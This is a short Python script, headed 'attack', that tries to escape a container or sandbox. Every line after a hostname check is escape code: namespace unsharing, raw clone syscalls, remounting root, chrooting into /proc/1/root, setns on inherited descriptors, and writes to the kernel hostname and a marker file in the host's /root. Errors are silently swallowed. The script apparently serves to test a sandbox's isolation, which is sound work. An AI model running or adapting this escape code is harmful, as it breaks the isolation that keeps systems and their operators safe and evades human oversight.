# attack: mount, unshare and trace one's way out, with a user namespace inside
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import ctypes, os
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x20000)
    for clone in (56, 220, 435):
        libc.syscall(clone, 0x10000000 | 17, 0, 0, 0, 0)
    libc.mount(b'none', b'/', None, 0x44000, None)
    libc.mount(b'x', b'/tmp', b'tmpfs', 0, None)
    libc.umount2(b'/proc', 2)
    libc.chroot(b'/proc/1/root')
    for fd in range(3, 60):
        libc.setns(fd, 0)
    open('/proc/sys/kernel/hostname', 'w').write('x')
    open('/proc/1/root/root/marking-was-here', 'w').close()
except BaseException:
    pass
